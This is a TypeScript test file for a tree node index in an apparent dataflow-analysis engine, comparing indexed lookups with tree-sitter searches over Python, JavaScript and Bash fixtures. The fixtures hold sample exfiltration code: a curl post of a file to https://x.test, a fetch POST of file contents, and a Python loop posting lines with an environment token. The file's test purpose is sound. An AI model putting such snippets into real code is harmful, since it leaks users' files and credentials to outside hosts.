import { strict as assert } from 'node:assert';
import type { Node, Tree } from 'web-tree-sitter';
import { findAll } from '../../../server/src/engine/dataflow/walker';
import { indexedNodes } from '../../../server/src/engine/dataflow/node-index';
import { TreeSitterHost, type TreeLanguage } from '../../../server/src/engine/parsers';
import { DIST_DIR } from '../../support/engine';

let hostPromise: Promise<TreeSitterHost> | undefined;
function host(): Promise<TreeSitterHost> {
  hostPromise ??= TreeSitterHost.create(DIST_DIR);
  return hostPromise;
}

async function parse(language: TreeLanguage, code: string): Promise<Tree> {
  const tree = (await host()).parse(language, code, Date.now() + 10_000);
  assert.ok(tree, 'the code parses');
  return tree;
}

/** What tree-sitter's own search gives: named nodes of the types under `root`, in order, at most `limit`. */
function walked(root: Node, types: ReadonlySet<string>, limit: number): string[] {
  return root
    .descendantsOfType([...types])
    .filter((node): node is Node => node?.isNamed === true)
    .slice(0, limit)
    .map(spanOf);
}

function spanOf(node: Node): string {
  return `${node.type}@${node.startIndex}-${node.endIndex}`;
}

function eachNode(root: Node, visit: (node: Node) => void): void {
  visit(root);
  for (const child of root.namedChildren) if (child) eachNode(child, visit);
}

const PYTHON = `import os, subprocess, requests
TOKEN = os.environ.get("TOKEN")

def upload(path, url=open("defaults.txt").read()):
    with open(path) as handle, open(path + ".bak", "w") as backup:
        data = handle.read()
        backup.write(data)
    for line in data.splitlines():
        total = len(line)
        total += 1
        if (n := len(line)) > 10:
            requests.post(url, data=line, headers={"Authorization": TOKEN})
    helper = lambda x: subprocess.run(["echo", x])
    while False:
        helper(path)
    return total

class Sync:
    def run(self, items):
        return [upload(item) for item in items]
`;

const JAVASCRIPT = `const fs = require('fs');
function send(path) { const data = fs.readFileSync(path); fetch('https://x.test', { method: 'POST', body: data }); }
class A { go(x) { let y = x; y = send(y); for (const k in y) console.log(k); } }
const arrow = (p) => send(p);
`;

const BASH = `#!/bin/bash
NAME=value
ls
backup() { cp "$1" "$1.bak" > /dev/null; curl -s https://x.test -d @"$1"; }
for f in *.txt; do backup "$f"; done
while true; do sleep 1; done
`;

const TYPE_SETS: readonly (readonly string[])[] = [
  ['function_definition'],
  ['call'],
  ['call', 'assignment'],
  ['assignment', 'augmented_assignment', 'for_statement', 'named_expression'],
  ['while_statement'],
  ['with_item'],
  ['function_declaration', 'generator_function_declaration', 'method_definition', 'variable_declarator'],
  ['variable_declarator', 'assignment_expression', 'for_in_statement'],
  ['call_expression'],
  ['variable_assignment', 'function_definition', 'for_statement'],
  ['redirected_statement', 'command'],
  ['file_redirect'],
];

describe('tree node index (one walk per tree for the searches the readers share)', () => {
  for (const [language, code] of [['python', PYTHON], ['javascript', JAVASCRIPT], ['bash', BASH]] as const) {
    it(`finds, under every node of a ${language} tree, what tree-sitter's own search finds`, async function () {
      this.timeout(20_000);
      const tree = await parse(language, code);
      try {
        let compared = 0;
        eachNode(tree.rootNode, (root) => {
          for (const list of TYPE_SETS) {
            const types = new Set(list);
            for (const limit of [2000, 1]) {
              const indexed = indexedNodes(root, types, limit);
              assert.ok(indexed, `indexed types ${list.join(', ')}`);
              assert.deepEqual(indexed.map(spanOf), walked(root, types, limit), `${list.join(', ')} under ${spanOf(root)}, at most ${limit}`);
              compared++;
            }
          }
        });
        assert.ok(compared > 500, `compared ${compared} searches`);
      } finally {
        tree.delete();
      }
    });
  }

  it('leaves out an ancestor that spans exactly the same text as the node searched under', async () => {
    const tree = await parse('bash', 'ls\n');
    try {
      const command = tree.rootNode.namedChildren[0];
      const name = command?.namedChildren[0];
      assert.equal(command?.type, 'command');
      assert.equal(name?.type, 'command_name');
      assert.ok(command && name);
      assert.equal(name.startIndex, command.startIndex);
      assert.equal(name.endIndex, command.endIndex);
      assert.deepEqual(findAll(name, new Set(['command'])).map(spanOf), []);
      assert.deepEqual(findAll(command, new Set(['command'])).map(spanOf), [spanOf(command)]);
    } finally {
      tree.delete();
    }
  });

  it('answers nothing for a type it does not index, and findAll then searches the tree itself', async () => {
    const tree = await parse('python', PYTHON);
    try {
      const types = new Set(['return_statement']);
      assert.equal(indexedNodes(tree.rootNode, types, 10), undefined);
      assert.deepEqual(findAll(tree.rootNode, types).map(spanOf), walked(tree.rootNode, types, 2000));
      assert.equal(findAll(tree.rootNode, types).length, 2);
    } finally {
      tree.delete();
    }
  });

  it('past its cap of kept nodes, still finds every node by searching the tree itself', async function () {
    this.timeout(30_000);
    const calls = 25_000;
    const tree = await parse('python', Array.from({ length: calls }, (_, i) => `f(${i})`).join('\n') + '\n');
    try {
      const types = new Set(['call']);
      assert.equal(indexedNodes(tree.rootNode, types, 100_000), undefined, 'the index stopped short');
      assert.equal(findAll(tree.rootNode, types, 100_000).length, calls);
      // A search that ends inside what the index kept is still answered from it.
      assert.equal(indexedNodes(tree.rootNode, types, 10)?.length, 10);
    } finally {
      tree.delete();
    }
  });
});
